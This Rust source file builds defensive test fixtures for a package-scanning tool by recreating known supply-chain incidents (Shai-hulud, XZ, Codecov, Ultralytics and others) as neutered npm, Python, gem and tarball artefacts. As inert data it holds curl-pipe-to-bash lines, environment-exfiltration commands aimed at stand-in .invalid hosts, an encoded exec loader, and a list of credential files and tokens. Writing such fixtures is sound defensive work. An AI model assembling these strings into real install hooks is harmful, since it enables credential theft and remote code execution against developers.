//! Known incidents in packages of script languages. Each script leaves with its first statement; what
//! stands behind that are names as data (`mentions`), and every host among them is under `.invalid`,
//! which never resolves (RFC 6761).

use super::containers::{debian, gem, npm, sdist, wheel};
use super::mentions::{self, script};
use super::packages::{javascript, javascript_module, manifest, python, ruby, shell};
use super::payload::{LINE, base64, noise};
use super::software::{Edition, Files, add, newcomer, replace};
use super::tar::{Entry, gzip, tar_of};
use super::xar::zlib;
use super::{Artefact, Case, Expect, unix};

const HOOK: &str = "installation.script|story.loader";

fn case(
    name: &'static str,
    incident: &'static str,
    container: &'static str,
    expect: Expect,
    first_cause: &'static str,
    (old, new): (Artefact, Artefact),
    about: &'static str,
) -> Case {
    let incident = Some(incident);
    Case { name, incident, container, hard: false, old, new, expect, first_cause, about }
}

pub(super) fn cases() -> Vec<Case> {
    let mut cases = hooks();
    cases.extend(worms());
    cases.extend(scripts());
    cases.extend(pythons());
    cases.push(xz_source());
    cases.push(codecov());
    cases.push(rest_client());
    cases
}

/// The line as an obfuscator would carry it, with a loop of its kind that is never reached.
fn obfuscated(rows: usize, names: &[&str]) -> Vec<u8> {
    let hexadecimal: String = LINE.bytes().map(|byte| format!("\\x{byte:02x}")).collect();
    let rows = vec![format!("'{hexadecimal}'"); rows].join(",");
    let shuffle = "(function(_0x1c,_0x2d){while(!![]){try{if(parseInt(_0x1c[0x0])===_0x2d)break;\
                   else _0x1c['push'](_0x1c['shift']());}catch(_0x3e){break;}}}(_0x4b48,0x2f));";
    let named = mentions::javascript(names);
    script(&format!("var _0x4b48=[{rows}];{shuffle}\n{named}"))
}

/// An npm package that gains lifecycle scripts and files.
fn npm_pair(name: &str, hooks: &[(&str, &str)], files: Files) -> (Artefact, Artefact) {
    let old = npm(name, Edition::Old, &javascript(name, Edition::Old));
    let mut new = javascript(name, Edition::New);
    replace(&mut new, "package.json", manifest(name, Edition::New, hooks));
    new.extend(files);
    (old, npm(name, Edition::New, &new))
}

fn file(name: &str, bytes: impl Into<Vec<u8>>) -> (String, Vec<u8>) {
    (name.to_owned(), bytes.into())
}

/// What worms of a registry look for and how they send it.
const SECRETS: [&str; 12] = [
    ".npmrc",
    ".ssh/id_rsa",
    ".aws/credentials",
    ".config/gcloud/application_default_credentials.json",
    ".gitconfig",
    "GITHUB_TOKEN",
    "NPM_TOKEN",
    "gh auth token",
    "child_process",
    "execSync",
    "https.request",
    "https://webhook.example.invalid/x",
];

/// A module in JavaScript that only lists names.
fn named(names: &[&str]) -> Vec<u8> {
    script(&mentions::javascript(names))
}

/// A shell script that leaves, and then names things.
fn shell_leaves(names: &[&str]) -> String {
    format!("#!/bin/bash\n# {LINE}\nexit 0\n{}\n", mentions::shell(names))
}

fn hooks() -> Vec<Case> {
    let library = newcomer("sdd.dll", 40, &["DllRegisterServer"]);
    let fetched = ["curl", "http://miner.example.invalid/jsextension", "chmod +x", "sh -c"];
    let fetched_on_windows =
        ["curl", "http://miner.example.invalid/jsextension.exe", "start /B jsextension.exe"];
    let evaluated = [
        "https.get",
        "https://paste.example.invalid/raw/fixture",
        "eval(",
        "process.env.HOME",
        ".npmrc",
        "_authToken=",
    ];
    let clusters = [
        "https.request",
        "config.example.invalid",
        ".kube/config",
        "child_process",
        "eval(",
        "xmrig",
    ];
    vec![
        case(
            "ua-parser-npm",
            "UAParser.js",
            "npm",
            Expect::Block,
            HOOK,
            npm_pair(
                "vet-ua-parser",
                &[("preinstall", "node preinstall.js")],
                vec![
                    file(
                        "preinstall.js",
                        named(&["child_process", "spawn", "preinstall.sh", "preinstall.bat"]),
                    ),
                    file("preinstall.sh", shell_leaves(&fetched)),
                    file("preinstall.bat", mentions::batch(&fetched_on_windows)),
                ],
            ),
            "A preinstall script that fetches a program for each system and starts it.",
        ),
        case(
            "coa-npm",
            "coa",
            "npm",
            Expect::Block,
            HOOK,
            npm_pair(
                "vet-coa",
                &[("preinstall", "start /B node compile.js & node compile.js")],
                vec![
                    file("compile.js", obfuscated(24, &["child_process", "eval(", "compile.bat"])),
                    file(
                        "compile.bat",
                        mentions::batch(&["certutil -decode compile.txt", "regsvr32 sdd.dll"]),
                    ),
                    file("sdd.dll", library.build()),
                ],
            ),
            "A preinstall script, obfuscated, beside a batch file and a library for Windows.",
        ),
        case(
            "eslint-scope-npm",
            "ESLint-scope",
            "npm",
            Expect::Block,
            HOOK,
            npm_pair(
                "vet-eslint-scope",
                &[("postinstall", "node ./lib/build.js")],
                vec![file("lib/build.js", named(&evaluated))],
            ),
            "A postinstall script that fetches text, evaluates it, and reads the registry's token.",
        ),
        case(
            "rspack-npm",
            "Rspack",
            "npm",
            Expect::Block,
            HOOK,
            npm_pair(
                "vet-rspack",
                &[("postinstall", "node ./dist/util/support.js")],
                vec![file("dist/util/support.js", obfuscated(60, &clusters))],
            ),
            "A postinstall script, obfuscated, that reads cluster keys and starts a program.",
        ),
    ]
}

fn worms() -> Vec<Case> {
    let with = |names: &[&'static str]| [&SECRETS[..], names].concat();
    let wallets = [".electrum", ".ethereum/keystore", "Exodus", "metamask", ".bashrc", "gh api"];
    let service = [
        ".config/systemd/user/pgmon.service",
        "systemctl --user enable",
        "[Service] ExecStart=/usr/bin/python3 %h/.local/share/pgmon/service.py",
        "https.get",
        "https://canister.example.invalid/raw",
        "npm publish",
    ];
    let workflow = format!(
        "# {LINE}\non: push\njobs:\n  none:\n    if: false\n    runs-on: ubuntu-latest\n    steps:\n      - run: \"{}\"\n",
        mentions::shell(&["curl -d", "https://webhook.example.invalid/x"]),
    );
    vec![
        case(
            "nx-npm",
            "Nx",
            "npm",
            Expect::Block,
            HOOK,
            npm_pair(
                "vet-nx",
                &[("postinstall", "node telemetry.js")],
                vec![file("telemetry.js", named(&with(&wallets)))],
            ),
            "A postinstall script that gathers keys, wallets and tokens and changes the shell's start.",
        ),
        case(
            "shai-hulud-npm",
            "Shai-hulud",
            "npm",
            Expect::Block,
            HOOK,
            npm_pair(
                "vet-worm",
                &[("postinstall", "node bundle.js")],
                vec![
                    file("bundle.js", named(&with(&["trufflehog", "npm whoami", "npm publish"]))),
                    file(".github/workflows/fixture-workflow.yml", workflow),
                ],
            ),
            "A postinstall script that gathers secrets and publishes itself with them.",
        ),
        case(
            "shai-hulud-second-npm",
            "Shai-hulud",
            "npm",
            Expect::Block,
            HOOK,
            npm_pair(
                "vet-worm-two",
                &[("preinstall", "node setup_bun.js")],
                vec![
                    file(
                        "setup_bun.js",
                        named(&[
                            "child_process",
                            "execSync",
                            "curl -fsSL https://bun.example.invalid/install | bash",
                            "bun_environment.js",
                        ]),
                    ),
                    file("bun_environment.js", obfuscated(400, &with(&["eval("]))),
                ],
            ),
            "A preinstall script that installs a run-time and starts a large obfuscated script with it.",
        ),
        case(
            "canister-worm-npm",
            "CanisterWorm",
            "npm",
            Expect::Block,
            HOOK,
            npm_pair(
                "vet-canister",
                &[("postinstall", "node service.js")],
                vec![file("service.js", named(&with(&service)))],
            ),
            "A postinstall script that gathers tokens, registers a service of the user and asks a host what to run.",
        ),
    ]
}

fn scripts() -> Vec<Case> {
    let name = "vet-lottie";
    let mut new = javascript(name, Edition::New);
    let drainer = mentions::javascript_function(
        "connectPopup",
        &[
            "window.ethereum",
            "window.solana",
            "eth_requestAccounts",
            "fetch(",
            "https://wallet.example.invalid/ws",
            "walletconnect",
            "metamask",
            "phantom",
        ],
    );
    replace(
        &mut new,
        "index.js",
        format!("{}{drainer}", javascript_module(Edition::New)).into_bytes(),
    );
    let old = npm(name, Edition::Old, &javascript(name, Edition::Old));
    vec![case(
        "lottie-npm",
        "LottieFiles",
        "npm",
        Expect::Hold,
        "reference.secrets|capability.network",
        (old, npm(name, Edition::New, &new)),
        "A player of animations newly asks for a wallet and speaks to a host.",
    )]
}

fn pythons() -> Vec<Case> {
    let (sends, hides, loads) =
        ("capability.network", "payload.hidden-text", "story.loader|capability.network");
    let changed = |name: &str, file: &str, more: &str| {
        let mut files = python(name, Edition::New);
        match files.iter_mut().find(|(known, _)| *known == format!("{name}/{file}")) {
            Some((_, bytes)) => bytes.extend_from_slice(more.as_bytes()),
            None => files.push((format!("{name}/{file}"), more.as_bytes().to_vec())),
        }
        files
    };
    let hidden: String = base64(&zlib(LINE.repeat(40).as_bytes())).chars().rev().collect();
    let call =
        format!("exec(__import__('zlib').decompress(__import__('base64').b64decode('{hidden}')))");
    let hidden = mentions::python("_sync", &[&call, "[::-1]"]);
    let collector = mentions::python(
        "_report",
        &["b64encode", "os.environ", "urllib.request", "https://collector.example.invalid/sent/"],
    );
    let loader = mentions::python(
        "safe_run",
        &[
            "urlretrieve",
            "https://releases.example.invalid/",
            "/tmp/ultralytics_runner",
            "os.chmod",
            "subprocess",
        ],
    );
    let both = |name: &str, files: &Files| {
        [
            (
                wheel(name, Edition::Old, &python(name, Edition::Old)),
                wheel(name, Edition::New, files),
            ),
            (
                sdist(name, Edition::Old, &python(name, Edition::Old)),
                sdist(name, Edition::New, files),
            ),
        ]
    };
    let [ctx_wheel, ctx_sdist] = both("vet_ctx", &changed("vet_ctx", "__init__.py", &collector));
    let [aiocpa_wheel, aiocpa_sdist] =
        both("vet_aiocpa", &changed("vet_aiocpa", "sync.py", &hidden));
    let [ultra_wheel, ultra_sdist] =
        both("vet_ultra", &changed("vet_ultra", "downloads.py", &loader));
    let environment = "The package's start reads the environment and sends it to a host.";
    let unpacked = "A new module executes reversed, encoded and packed text.";
    let miner = "A new module downloads a program, makes it executable and starts it.";
    vec![
        case("ctx-wheel", "CTX", "wheel", Expect::Hold, sends, ctx_wheel, environment),
        case("ctx-sdist", "CTX", "sdist", Expect::Hold, sends, ctx_sdist, environment),
        case("aiocpa-wheel", "aiocpa", "wheel", Expect::Hold, hides, aiocpa_wheel, unpacked),
        case("aiocpa-sdist", "aiocpa", "sdist", Expect::Hold, hides, aiocpa_sdist, unpacked),
        case("ultralytics-wheel", "Ultralytics", "wheel", Expect::Hold, loads, ultra_wheel, miner),
        case("ultralytics-sdist", "Ultralytics", "sdist", Expect::Hold, loads, ultra_sdist, miner),
    ]
}

/// The release archive of XZ Utils: a build script that only it has, and test files of noise.
fn xz_source() -> Case {
    let files = |edition: Edition| -> Files {
        let folder = format!("vetz-{}", edition.version());
        vec![
            (format!("{folder}/configure"), shell(edition, "")),
            (format!("{folder}/README"), format!("{LINE}\n").into_bytes()),
            (format!("{folder}/tests/files/good-1.vz"), LINE.as_bytes().to_vec()),
        ]
    };
    let mut new = files(Edition::New);
    let macros = format!(
        "dnl {LINE}\nAC_DEFUN([gl_BUILD_TO_HOST_INIT], [\n  if false; then\n    {}\n  fi\n])\n",
        mentions::shell(&["tests/files/bad-3-corrupt.vz", "| xz -d", "| bash"]),
    );
    add(&mut new, "vetz-1.0.2/m4/build-to-host.m4", macros);
    add(&mut new, "vetz-1.0.2/tests/files/bad-3-corrupt.vz", noise(88 * 1024, 9));
    let name = |edition: Edition| format!("vetz-{}.tar.gz", edition.version());
    let pair = (
        Artefact::new(&name(Edition::Old), gzip(&tar_of(&files(Edition::Old)))),
        Artefact::new(&name(Edition::New), gzip(&tar_of(&new))),
    );
    case(
        "xz-source-tar",
        "XZ",
        "tar.gz",
        Expect::Hold,
        "story.names-carrier|payload.opaque-bytes",
        pair,
        "A build script that decodes a test file and runs it; the test file is noise.",
    )
}

fn codecov() -> Case {
    let name = |edition: Edition| format!("uploader-{}.sh", edition.version());
    let named =
        mentions::shell(&["curl -s --data $(env)", "https://uploader.example.invalid/upload"]);
    let line = format!("if false; then\n  {named}\nfi\n");
    let pair = (
        Artefact::new(&name(Edition::Old), shell(Edition::Old, "")),
        Artefact::new(&name(Edition::New), shell(Edition::New, &line)),
    );
    case(
        "codecov-script",
        "Codecov",
        "script",
        Expect::Hold,
        "capability.network",
        pair,
        "An uploading script gains one line that sends the environment to another host.",
    )
}

fn rest_client() -> Case {
    let name = "vet-rest-client";
    let old = gem(name, Edition::Old, &ruby(name, Edition::Old));
    let mut new = ruby(name, Edition::New);
    let file = format!("lib/{name}/request.rb");
    let mut bytes = super::software::file_of(&new, &file).to_vec();
    let named = mentions::ruby(
        "_init",
        &[
            "Net::HTTP",
            "https://paste.example.invalid/raw/fixture",
            "eval(",
            "https://collector.example.invalid",
            "ENV.to_h",
        ],
    );
    bytes.extend_from_slice(named.as_bytes());
    replace(&mut new, &file, bytes);
    case(
        "rest-client-gem",
        "rest-client",
        "gem",
        Expect::Hold,
        "capability.network|story.loader",
        (old, gem(name, Edition::New, &new)),
        "A library newly evaluates what a host answers and sends the environment away.",
    )
}

/// A Debian package that gains a maintainer script; used for the surfaces of installation too.
pub(super) fn deb_with_script(
    edition: Edition,
    scripts: &[(&str, String)],
    more: &[Entry],
) -> Artefact {
    let mut content = unix::deb_content(edition, &unix::library(edition));
    content.extend_from_slice(more);
    debian("libvetz1", edition, scripts, &content)
}
